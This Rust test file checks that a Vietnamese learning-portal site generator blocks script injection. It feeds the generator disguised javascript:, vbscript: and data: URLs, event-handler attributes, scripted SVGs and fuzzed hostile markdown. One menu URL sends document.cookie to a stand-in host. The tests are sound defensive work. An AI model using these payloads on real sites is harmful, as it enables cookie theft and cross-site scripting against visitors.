//! No script reaches a citizen while `allow_html = false`: URL-valued fields, `[[menu]]` urls
//! and markdown links with a script scheme are located errors, heading attributes other than
//! `id` and `class` are dropped, and static files that can run script are refused.

use crate::util::{Build, Page, PortalTest};

const EVENTS: &str = "+++\ntitle = \"Sự kiện\"\nkind = \"events\"\n+++\n";
const RESOURCES: &str = "+++\ntitle = \"Học liệu\"\nkind = \"resources\"\n+++\n";

/// An event whose `registration` (on line 4) is `value`, written as a TOML basic string.
fn event(value: &str) -> String {
    format!("+++\ntitle = \"Ngày Sách\"\nstart = 2030-04-21\nregistration = \"{value}\"\n+++\n\nNội dung.\n")
}

/// The message and help line of the diagnostic at `location` (`path:line`).
#[track_caller]
fn diagnostic(build: &Build, location: &str) -> (String, String) {
    let lines: Vec<&str> = build.stderr.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.starts_with(&format!("{location}: ")))
        .unwrap_or_else(|| panic!("no diagnostic at `{location}` in:\n{}", build.stderr));
    (lines[at].to_string(), lines.get(at + 1).copied().unwrap_or("").to_string())
}

/// Every element of every page: no `on…` attribute, and no URL attribute whose scheme (read as a
/// browser does) is other than http, https, mailto or tel.
#[track_caller]
fn assert_no_script(build: &Build) {
    for path in build.html_files() {
        let page = build.page(&path);
        for element in page.all("*") {
            for (name, value) in element.value().attrs() {
                assert!(!name.to_ascii_lowercase().starts_with("on"), "{path}: <{} {name}=…>", element.value().name());
                if ["href", "src", "action", "formaction", "xlink:href", "poster", "data"].contains(&name) {
                    let squeezed: String = value
                        .chars()
                        .filter(|c| !c.is_control() && !c.is_whitespace())
                        .collect::<String>()
                        .to_ascii_lowercase();
                    let scheme = squeezed.split_once(':').map(|(s, _)| s).filter(|s| !s.contains(['/', '?', '#']));
                    assert!(
                        scheme.is_none_or(|s| ["http", "https", "mailto", "tel"].contains(&s)),
                        "{path}: {name}={value:?}"
                    );
                }
            }
        }
        assert_eq!(page.count("script:not([type='application/ld+json']):not([src])"), 0, "{path}");
    }
}

#[test]
fn a_script_registration_is_an_error_at_its_line_however_it_is_disguised() {
    let cases = [
        ("thuong", "javascript:alert(1)"),
        ("hoa-thuong", " JaVaScRiPt:alert(1)"),
        ("xuong-dong", "java\\nscript:alert(1)"),
        ("tab", "java\\tscript:alert(1)"),
        ("ky-tu-dieu-khien", "\\u0001javascript:alert(1)"),
        ("thuc-the", "&#106;avascript:alert(1)"),
        ("hai-cham", "javascript&colon;alert(1)"),
        ("du-lieu", "data:text/html,<script>alert(1)</script>"),
        ("vbscript", "vbscript:msgbox(1)"),
    ];
    let mut portal = PortalTest::new("safety/minimal").file("content/su-kien/_index.md", EVENTS);
    for (name, value) in cases {
        portal = portal.file(&format!("content/su-kien/{name}.md"), event(value));
    }
    let build = portal.build().failure();
    for (name, value) in cases {
        let (message, help) = diagnostic(&build, &format!("content/su-kien/{name}.md:4"));
        assert!(message.contains("lỗi: trường `registration`"), "{message}");
        let scheme = if value.contains("data:") {
            "data"
        } else if value.contains("vb") {
            "vbscript"
        } else {
            "javascript"
        };
        assert!(message.contains(&format!("dùng giao thức `{scheme}:`")), "{message}");
        assert!(help.contains("`https://`") && help.contains("`/tin-tuc/`"), "{help}");
    }
    assert!(!build.exists("/su-kien/thuong/"));
}

#[test]
fn refused_urls_are_explained_in_english_and_coded_in_json() {
    let portal = PortalTest::new("safety/minimal")
        .file("content/hoc-lieu/_index.md", RESOURCES)
        .file(
            "content/hoc-lieu/video.md",
            "+++\ntitle = \"Video\"\ntype = \"video\"\nurl = \"JAVASCRIPT:alert(document.cookie)\"\n+++\n",
        )
        .args(&["--lang", "en"]);
    let build = portal.build().failure();
    let (message, help) = diagnostic(&build, "content/hoc-lieu/video.md:4");
    assert!(
        message.ends_with("error: field `url`: URL `JAVASCRIPT:alert(document.cookie)` uses the `javascript:` scheme, which may not reach a page"),
        "{message}"
    );
    assert!(help.starts_with("  = help: use an address starting with `https://`"), "{help}");

    let check = portal.run("check", &["--format", "json"]);
    assert_eq!(check.code, 1, "{}", check.stdout);
    let json: serde_json::Value = serde_json::from_str(&check.stdout).unwrap();
    let found = json.as_array().unwrap().iter().find(|d| d["code"] == "unsafe-url").expect("an unsafe-url diagnostic");
    assert_eq!(found["file"], "content/hoc-lieu/video.md");
    assert_eq!(found["line"], 4);
    assert_eq!(found["level"], "error");
}

#[test]
fn web_mail_phone_and_site_addresses_are_published_as_written() {
    let build = PortalTest::new("safety/minimal")
        .file("content/su-kien/_index.md", EVENTS)
        .file("content/su-kien/web.md", event("https://dang-ky.example.vn/?a=1&b=2"))
        .file("content/su-kien/thu.md", event("mailto:dangky@example.vn"))
        .file("content/su-kien/noi-bo.md", event("/tin-tuc/tin-hop-le/"))
        .build()
        .success();
    let register = |path: &str| build.page(path).attr(".button--primary", "href");
    assert_eq!(register("/su-kien/web/").as_deref(), Some("https://dang-ky.example.vn/?a=1&b=2"));
    assert_eq!(register("/su-kien/thu/").as_deref(), Some("mailto:dangky@example.vn"));
    assert_eq!(register("/su-kien/noi-bo/").as_deref(), Some("/tin-tuc/tin-hop-le/"));
    assert_no_script(&build);
}

#[test]
fn a_script_menu_url_is_an_error_at_its_line_in_hoctap_toml() {
    let config = "title = \"Cổng\"\nbase_url = \"https://hoctap.example.vn\"\n\n[[menu]]\nname = \"Tin\"\nurl = \"/tin-tuc/\"\n\n\
                  [[menu]]\nname = \"Bấm vào đây\"\nurl = \"\\tjavascript:fetch('//x.example/'+document.cookie)\"\n";
    let build = PortalTest::new("safety/minimal").file("hoctap.toml", config).build().failure();
    let (message, help) = diagnostic(&build, "hoctap.toml:10");
    assert!(message.contains("trường `[[menu]] url`") && message.contains("`javascript:`"), "{message}");
    assert!(help.contains("`https://`"), "{help}");
}

#[test]
fn script_links_in_markdown_are_errors_at_their_line_and_column() {
    let body = "+++\ntitle = \"Tin\"\ndate = 2025-04-21\n+++\n\nĐọc [đây](java&#9;script:alert(1)).\n\n\
                ![ảnh](data:image/svg+xml;base64,PHN2Zz4=) [a](&#x6A;avascript:alert(1)) <vbscript:msgbox(1)>\n\n\
                [tham khảo][r]\n\n[r]: JavaScript:alert(2)\n";
    let build = PortalTest::new("safety/minimal").file("content/tin-tuc/lien-ket.md", body).build().failure();
    for (at, scheme) in [
        ("content/tin-tuc/lien-ket.md:6:5", "javascript"),
        ("content/tin-tuc/lien-ket.md:8:1", "data"),
        ("content/tin-tuc/lien-ket.md:8:44", "javascript"),
        ("content/tin-tuc/lien-ket.md:8:74", "vbscript"),
        ("content/tin-tuc/lien-ket.md:10:1", "javascript"),
    ] {
        let (message, _) = diagnostic(&build, at);
        assert!(message.contains(&format!("dùng giao thức `{scheme}:`")), "{message}");
    }
}

#[test]
fn heading_attributes_other_than_id_and_class_are_dropped_with_a_warning() {
    let body = "+++\ntitle = \"Tin\"\ndate = 2025-04-21\n+++\n\n## Mục tiêu {#muc-tieu .noi-bat onfocus=alert(1) autofocus}\n\n\
                ## Hai {style=color:red href=javascript:x .x\"y tabindex=1}\n";
    let build = PortalTest::new("safety/minimal").file("content/tin-tuc/tieu-de.md", body).build().success();
    for (line, attribute) in [(6, "onfocus=alert(1)"), (6, "autofocus"), (8, "style=color:red"), (8, "tabindex=1")] {
        let warning = build
            .stderr
            .lines()
            .find(|l| l.starts_with(&format!("content/tin-tuc/tieu-de.md:{line}: cảnh báo:")) && l.contains(attribute))
            .unwrap_or_else(|| panic!("no warning for {attribute}:\n{}", build.stderr));
        assert!(warning.contains("bị bỏ qua"), "{warning}");
    }
    let page = build.page("/tin-tuc/tieu-de/");
    let headings: Vec<Vec<(String, String)>> = page
        .all("main h2")
        .iter()
        .map(|h| {
            let mut attrs: Vec<_> = h.value().attrs().map(|(k, v)| (k.to_string(), v.to_string())).collect();
            attrs.sort();
            attrs
        })
        .collect();
    assert!(
        headings.contains(&vec![("class".into(), "noi-bat".into()), ("id".into(), "muc-tieu".into())]),
        "{headings:?}"
    );
    assert!(headings.contains(&vec![("id".into(), "hai".into())]), "{headings:?}");
    assert_no_script(&build);
}

#[test]
fn html_and_scripted_svg_files_are_refused_and_plain_svg_is_published() {
    let plain = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><title>Sơ đồ</title><rect width=\"10\" height=\"10\"/></svg>";
    let portal = PortalTest::new("safety/minimal")
        .file("static/trang.html", "<script>alert(document.domain)</script>")
        .file("static/so-do.svg", plain)
        .file("content/tin-tuc/bai/index.md", "+++\ntitle = \"Bài\"\ndate = 2025-04-21\n+++\n\n![Sơ đồ](so-do.svg)\n")
        .file("content/tin-tuc/bai/so-do.svg", plain)
        .file(
            "content/tin-tuc/bai/ve.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect ONLOAD =\"alert(1)\"/></svg>",
        )
        .file("content/tin-tuc/bai/tep.XHTML", "<html/>");
    let build = portal.build().failure();
    for (file, found) in [
        ("static/trang.html", "tệp HTML `static/trang.html` có thể chạy mã script"),
        ("content/tin-tuc/bai/ve.svg", "(có `onload=`)"),
        ("content/tin-tuc/bai/tep.XHTML", "tệp HTML `content/tin-tuc/bai/tep.XHTML`"),
    ] {
        let (message, help) = diagnostic(&build, file);
        assert!(message.contains(found) && message.contains("allow_html = false"), "{message}");
        assert!(help.contains("PNG") && help.contains("`allow_html = true`"), "{help}");
    }
    assert!(!build.stderr.contains("so-do.svg"), "{}", build.stderr);

    std::fs::remove_file(portal.root().join("static/trang.html")).unwrap();
    std::fs::remove_file(portal.root().join("content/tin-tuc/bai/ve.svg")).unwrap();
    std::fs::remove_file(portal.root().join("content/tin-tuc/bai/tep.XHTML")).unwrap();
    let build = portal.build().success();
    assert_eq!(build.read("/so-do.svg"), plain);
    assert_eq!(build.read("/tin-tuc/bai/so-do.svg"), plain);
    assert_no_script(&build);
}

#[test]
fn with_allow_html_the_portal_trusts_its_static_files() {
    let build = PortalTest::new("safety/minimal")
        .file("hoctap.toml", "title = \"Cổng\"\nbase_url = \"https://hoctap.example.vn\"\nallow_html = true\n")
        .file("static/google123.html", "google-site-verification: google123.html")
        .file("static/ve.svg", "<svg onload=\"x()\"/>")
        .build()
        .success();
    assert!(build.exists("/google123.html"));
    assert!(build.exists("/ve.svg"));
}

#[test]
fn a_hostile_page_that_builds_puts_no_script_anywhere() {
    // Everything here is allowed (or dropped with a warning), so the page builds; none of it
    // may become markup, an event attribute or a script URL.
    let body = "+++\ntitle = \"<img src=x onerror=alert(1)>\"\ndate = 2025-04-21\nsummary = \"<svg onload=alert(2)>\"\n\
                tags = [\"<script>alert(3)</script>\"]\n+++\n\n\
                <script>alert(4)</script>\n\n<a href=\"javascript:alert(5)\">x</a> <img src=x onerror=alert(6)>\n\n\
                ## Tiêu đề {onclick=alert(7) .a}\n\n[ok](https://example.vn/\"onmouseover=\"alert(8)) [rel](tep.pdf) <mailto:a@b.vn>\n\n\
                | a | <b onclick=x>b</b> |\n|---|---|\n| [x](/a/) | y[^1] |\n\n[^1]: <i onclick=y>n</i>\n";
    let build = PortalTest::new("safety/minimal").file("content/tin-tuc/doc-hai.md", body).build().success();
    assert_no_script(&build);
    let page: Page = build.page("/tin-tuc/doc-hai/");
    assert!(page.main_text().contains("<script>alert(4)</script>"));
    // The quotes stay inside the escaped attribute value.
    assert_eq!(
        page.attr("main a[rel='noopener']", "href").as_deref(),
        Some("https://example.vn/\"onmouseover=\"alert(8)")
    );
}

/// Pieces of hostile markdown and HTML, mixed with ordinary text by [`hostile_body`].
const FRAGMENTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "</script><script>",
    "javascript:alert(1)",
    "[a](javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&#9;script:x)",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#106avascript:x)",
    "[a](javascript&colon;x)",
    "[a]( JaVaScRiPt:x)",
    "[a](<javascript:x>)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![](vbscript:x)",
    "![i](data:image/svg+xml;base64,PHN2Zz4=)",
    "![i](x.png \"t\\\" onerror=alert(1)\")",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:x\">a</a>",
    "<svg onload=alert(1)>",
    "<iframe src=\"data:text/html,x\"></iframe>",
    "## h {onfocus=alert(1) autofocus}",
    "## h {#x\" onclick=y .c style=color:red}",
    "# t {.a\"b #i href=javascript:x}",
    "{onfocus=x autofocus}",
    "[r]\n\n[r]: javascript:alert(2)\n",
    "[r][]\n\n[r]: <data:x> \"t\"\n",
    "x[^1]\n\n[^1]: <b onclick=x>n</b>\n",
    "[^\"onclick=x]\n\n[^\"onclick=x]: y\n",
    "| a | b |\n|:-:|--|\n| [c](vbscript:x) | <i onmouseover=x> |\n",
    "***__*x*__***",
    "- [x] <input onfocus=x>\n- [ ] y\n",
    "> [q](javascript:x)\n",
    "```\n<script>\n```\n",
    "`<script>`",
    "<!-- <script> -->",
    "<div>\n<script>x</script>\n</div>\n",
    "\u{0}",
    "\u{1}\u{1f}",
    "\u{feff}",
    "\u{200b}",
    "&#0;",
    "&",
    "<",
    "\"",
    "'",
    "\\",
    "[a](https://example.vn/\"onmouseover=\"x)",
    "[a](mailto:a@b.vn?subject=<x>)",
    "<x@y.vn>",
    "[a](/tin-tuc/?q=\"><script>)",
    "[a](#\"onclick=x)",
    "<https://example.vn/?a=\"><script>>",
    "~~x~~",
    "\n\n",
    "\n",
    "    indented <script>\n",
    "<!-- more -->",
];
const WORDS: &[&str] =
    &["Mục tiêu", "học tập", "suốt đời", "xã", "12:30", "a", " ", "*", "_", "[", "]", "(", ")", "!", "#", "=", ":"];

/// A small deterministic generator (xorshift64*), so every run checks the same inputs.
struct Rng(u64);

impl Rng {
    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % n
    }
}

fn hostile_body(rng: &mut Rng) -> String {
    let mut body = String::new();
    for _ in 0..1 + rng.below(12) {
        let piece =
            if rng.below(3) == 0 { WORDS[rng.below(WORDS.len())] } else { FRAGMENTS[rng.below(FRAGMENTS.len())] };
        body.push_str(piece);
        body.push_str(["", " ", "\n", "\n\n"][rng.below(4)]);
    }
    body
}

/// Elements markdown may produce.
const MARKDOWN_ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "p",
    "a",
    "img",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "div",
    "input",
    "hr",
    "br",
    "section",
];

/// No element beyond what markdown makes, no `on…` attribute, no URL with a refused scheme.
#[track_caller]
fn assert_safe_fragment(html: &str, input: &str) {
    let fragment = scraper::Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        let Some(element) = node.value().as_element() else { continue };
        assert!(MARKDOWN_ELEMENTS.contains(&element.name()), "<{}> from {input:?}:\n{html}", element.name());
        for (name, value) in element.attrs() {
            assert!(
                [
                    "id", "class", "href", "src", "alt", "title", "style", "type", "checked", "disabled", "tabindex",
                    "start", "rel"
                ]
                .contains(&name),
                "attribute {name} from {input:?}:\n{html}"
            );
            if name == "style" {
                assert!(value.starts_with("text-align: ") && !value.contains(['(', ';']), "{value}");
            }
            if name == "href" || name == "src" {
                let squeezed: String = value
                    .chars()
                    .filter(|c| !c.is_control() && !c.is_whitespace())
                    .collect::<String>()
                    .to_ascii_lowercase();
                let scheme = squeezed.split_once(':').map(|(s, _)| s).filter(|s| !s.contains(['/', '?', '#', '%']));
                assert!(
                    scheme.is_none_or(|s| ["http", "https", "mailto", "tel"].contains(&s)),
                    "{name}={value:?} from {input:?}"
                );
            }
        }
    }
}

#[test]
fn thousands_of_hostile_bodies_render_without_panic_or_script() {
    fn no_links(target: &str) -> Result<String, hoctap::diagnostics::Problem> {
        Err(hoctap::diagnostics::Problem::BrokenLink { target: target.into(), suggestion: None })
    }
    let cx = hoctap::markdown::Context {
        path: std::path::Path::new("content/a.md"),
        body_line: 5,
        allow_html: false,
        base_path: "/cong",
        relative_base: "/tin-tuc/a/",
        resolve_link: &no_links,
        picture: &hoctap::markdown::no_pictures,
        attachment: &hoctap::markdown::no_attachments,
    };
    let mut rng = Rng(0x5eed_2025_0421_0001);
    for _ in 0..3000 {
        let body = hostile_body(&mut rng);
        let (rendered, _) = hoctap::markdown::render(&body, None, &cx);
        assert_safe_fragment(&rendered.html, &body);
        assert_safe_fragment(&rendered.summary_html, &body);
    }
}

#[test]
fn hostile_pages_through_a_whole_build_put_no_script_anywhere() {
    let mut rng = Rng(0x5eed_2025_0421_0002);
    let mut portal = PortalTest::new("safety/minimal");
    for i in 0..12 {
        let (title, summary) = (hostile_body(&mut rng), hostile_body(&mut rng));
        // JSON string escapes are TOML basic-string escapes.
        let toml = |s: &str| serde_json::to_string(s).unwrap();
        let front = format!(
            "+++\ntitle = {}\ndate = 2025-04-21\nsummary = {}\ntags = [{}]\n+++\n\n",
            toml(&format!("x{}", title.trim())),
            toml(&summary),
            // A tag becomes a folder name, at most 120 bytes: keep it short.
            toml(&title.chars().take(30).collect::<String>())
        );
        portal = portal.file(&format!("content/tin-tuc/bai-{i}.md"), front + &hostile_body(&mut rng));
    }
    // Refused links make the build fail; drop them, as staff would, until it builds.
    let mut build = portal.build();
    for _ in 0..12 {
        if build.code == 0 {
            break;
        }
        assert_eq!(build.code, 1, "{}", build.stderr);
        for line in build.stderr.lines().filter(|l| l.contains(": lỗi: ")) {
            let file = line.split(':').next().unwrap();
            let text = std::fs::read_to_string(portal.root().join(file)).unwrap();
            let (front, body) = text.split_at(text.find("\n+++\n").unwrap() + 5);
            let kept: String = body.chars().filter(|c| c.is_alphanumeric() || *c == ' ').collect();
            portal.write(file, format!("{front}\n{kept}\n"));
        }
        build = portal.build();
    }
    let build = build.success();
    assert_no_script(&build);
}
